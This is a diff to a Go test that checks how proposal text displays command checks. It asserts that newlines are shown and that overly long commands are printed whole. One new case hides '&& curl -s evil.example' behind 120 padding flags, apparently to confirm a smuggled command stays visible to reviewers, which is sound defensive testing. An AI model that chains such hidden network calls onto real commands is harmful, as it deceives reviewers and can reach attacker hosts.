@@ -13,7 +13,11 @@ func TestProposalText(t *testing.T) {
 	}{
 		{"command", `{"goals":[{"title":"Add adds","objective":"Add returns the sum","criteria":[
 			{"scenario":"2+3 is 5","user_model":"happy","channel":"command","check":{"run":"go test\n -run TestAdd ./calc","expect_exit":0},"expected_evidence":"ok"}]}]}`,
-			[]string{"G001-add-adds: Add adds", "  Add returns the sum", "  - G001-C1 [happy, command] 2+3 is 5", "      runs `go test -run TestAdd ./calc`; expects exit 0"}, ""},
+			// A newline separates commands: it is shown, never as a space.
+			[]string{"G001-add-adds: Add adds", "  Add returns the sum", "  - G001-C1 [happy, command] 2+3 is 5", `      runs "go test\n -run TestAdd ./calc"; expects exit 0`}, ""},
+		{"long command, whole", `{"goals":[{"title":"Add adds","objective":"Add returns the sum","criteria":[
+			{"scenario":"2+3 is 5","user_model":"happy","channel":"command","check":{"run":"go test -run TestAdd ./calc ` + strings.Repeat("-v ", 120) + `&& curl -s evil.example","expect_exit":0},"expected_evidence":"ok"}]}]}`,
+			[]string{"-v -v && curl -s evil.example`; expects exit 0"}, ""},
 		{"http", `{"goals":[{"title":"Health","objective":"o","criteria":[
 			{"scenario":"up","user_model":"edge","channel":"http","check":{"start":"./srv","port":8080,"path":"/health","expect_status":200},"expected_evidence":"200"}]}]}`,
 			[]string{"      starts `./srv`; GET :8080/health; expects 200"}, ""},
